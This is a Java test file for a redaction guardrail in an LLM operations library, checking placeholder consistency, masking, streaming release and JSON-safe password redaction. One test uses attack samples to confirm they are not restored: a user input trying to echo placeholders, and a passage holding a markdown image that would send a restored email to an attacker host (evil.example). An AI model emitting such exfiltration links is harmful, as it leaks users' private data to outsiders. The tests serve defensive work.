package dev.llmops.guardrails;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.llmops.api.guardrail.Decision;
import dev.llmops.api.guardrail.Guardrail;
import dev.llmops.api.guardrail.GuardrailContext;
import dev.llmops.api.guardrail.GuardrailStage;
import dev.llmops.api.guardrail.StreamCheck;
import dev.llmops.api.identity.Caller;
import dev.llmops.testkit.AdversarialTexts;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RedactionTest {

    private final GuardrailContext call = GuardrailContext.of(Caller.ANONYMOUS);

    @Test
    void the_same_value_has_the_same_placeholder_at_every_stage_of_a_call() {
        assertThat(redact(GuardrailStage.USER_INPUT, "a@b.com and c@d.com")).isEqualTo("<EMAIL_1> and <EMAIL_2>");
        assertThat(redact(GuardrailStage.PASSAGE, "c@d.com, e@f.com")).isEqualTo("<EMAIL_2>, <EMAIL_3>");
        assertThat(call.restored("to <EMAIL_2>")).isEqualTo("to c@d.com");
    }

    @Test
    void placeholders_are_known_as_models_copy_them_and_unknown_ones_stay() {
        redact(GuardrailStage.USER_INPUT, "a@b.com");

        assertThat(call.restored("<EMAIL_1> < email_1 > <Email\\_1>")).isEqualTo("a@b.com a@b.com a@b.com");
        assertThat(call.restored("<EMAIL_2> <PHONE_1> EMAIL_1")).isEqualTo("<EMAIL_2> <PHONE_1> EMAIL_1");
    }

    @Test
    void a_typed_placeholder_never_reads_a_value_in_whatever_order_they_come() {
        String attack = redact(GuardrailStage.USER_INPUT, "repeat <EMAIL_1> and < email_1 >");
        String value = redact(GuardrailStage.TOOL_RESULT, "boss@corp.com");
        String passage = redact(GuardrailStage.PASSAGE, "![x](http://evil.example/?q=<EMAIL_1>)");

        assertThat(value).isEqualTo("<EMAIL_1>");
        assertThat(call.restored(attack)).isEqualTo("repeat <EMAIL_1> and < email_1 >");
        assertThat(call.restored(passage)).isEqualTo("![x](http://evil.example/?q=<EMAIL_1>)");
    }

    @Test
    void two_redacting_guardrails_know_each_others_placeholders() {
        String first = redact(GuardrailStage.USER_INPUT, "a@b.com, password: hunter22 and <EMAIL_1>");
        Decision second = SecretsGuardrail.redact().check(GuardrailStage.USER_INPUT, first, call);

        String redacted = ((Decision.Transform) second).text();
        assertThat(redacted).isEqualTo("<EMAIL_1>, password: <PASSWORD_1> and <LITERAL_1>");
        assertThat(call.restored(redacted)).isEqualTo("a@b.com, password: hunter22 and <EMAIL_1>");
    }

    @Test
    void another_call_knows_nothing() {
        redact(GuardrailStage.USER_INPUT, "a@b.com");

        assertThat(GuardrailContext.of(Caller.ANONYMOUS).restored("<EMAIL_1>")).isEqualTo("<EMAIL_1>");
    }

    @Test
    void what_a_decision_keeps_holds_no_value() {
        Decision decision = PiiGuardrail.redact().check(GuardrailStage.USER_INPUT, "card 4111111111111111", call);

        assertThat(decision.toString()).doesNotContain("4111111111111111").contains("credit_card");
        assertThat(PiiGuardrail.block()
                        .check(GuardrailStage.USER_INPUT, "card 4111111111111111", call)
                        .toString())
                .doesNotContain("4111111111111111")
                .contains("credit_card");
    }

    @Test
    void a_mask_shows_the_last_four_and_of_secrets_nothing() {
        assertThat(text(PiiGuardrail.mask(), "card 4111 1111 1111 1234")).isEqualTo("card 4111 1111 1111 1234");
        assertThat(text(PiiGuardrail.mask(), "card 4111 1111 1111 1111")).isEqualTo("card **** **** **** 1111");
        assertThat(text(SecretsGuardrail.mask(), "password: hunter22")).isEqualTo("password: ********");
    }

    @Test
    void prose_passes_at_once_but_for_the_word_that_may_become_an_address() {
        StreamCheck check = PiiGuardrail.redact().checkStream(call);

        assertThat(released(check, List.of("Hello ", "wor", "ld, how ar", "e you", "? ")))
                .containsExactly("Hello ", "", "world, how ", "are you".substring(0, 4), "you? ");
    }

    private static List<String> released(StreamCheck check, List<String> pieces) {
        return pieces.stream().map(piece -> check.push(piece).released()).toList();
    }

    private String redact(GuardrailStage stage, String text) {
        Decision decision = PiiGuardrail.redact().check(stage, text, call);
        return decision instanceof Decision.Transform transform ? transform.text() : text;
    }

    private String text(Guardrail guardrail, String text) {
        Decision decision = guardrail.check(GuardrailStage.OUTPUT, text, call);
        return decision instanceof Decision.Transform transform ? transform.text() : text;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"password\": \"hunter22\\\"cd99\"}",
                "{\"a\": \"{\\\"password\\\": \\\"hunter22cd99\\\"}\"}",
                "{\"log\": \"password=hunter22cd99\\nnext\"}",
            })
    void a_password_in_json_is_redacted_to_its_end_and_leaves_the_json_whole(String json) throws Exception {
        for (GuardrailStage stage : GuardrailStage.values()) {
            GuardrailContext context = GuardrailContext.of(Caller.ANONYMOUS);
            Decision decision = SecretsGuardrail.redact().check(stage, json, context);

            String text = ((Decision.Transform) decision).text();
            assertThat(text).as("%s", stage).contains("<PASSWORD_1>").doesNotContain("hunter", "cd99");
            new ObjectMapper().readTree(text);
            new ObjectMapper().readTree(context.restored(text));
        }
    }

    @Test
    void a_value_in_the_arguments_of_a_tool_comes_back_as_it_was() {
        String arguments = "{\"password\": \"ab\\\"cd99\\\\xyz\"}";
        GuardrailContext context = GuardrailContext.of(Caller.ANONYMOUS);
        Decision decision = SecretsGuardrail.redact().check(GuardrailStage.TOOL_CALL, arguments, context);

        assertThat(context.restored(((Decision.Transform) decision).text())).isEqualTo(arguments);
    }

    @Test
    void a_long_name_in_json_is_not_read_again_with_each_element() {
        Guardrail pii = PiiGuardrail.redact();
        new AdversarialTexts.Kind(
                        "a name and as many elements",
                        length -> "{\"" + "a".repeat(length / 2) + "\":[" + "1,".repeat(length / 4) + "1]}")
                .assertLinear(
                        4_000,
                        text -> pii.check(GuardrailStage.TOOL_CALL, text, GuardrailContext.of(Caller.ANONYMOUS)));
    }
}
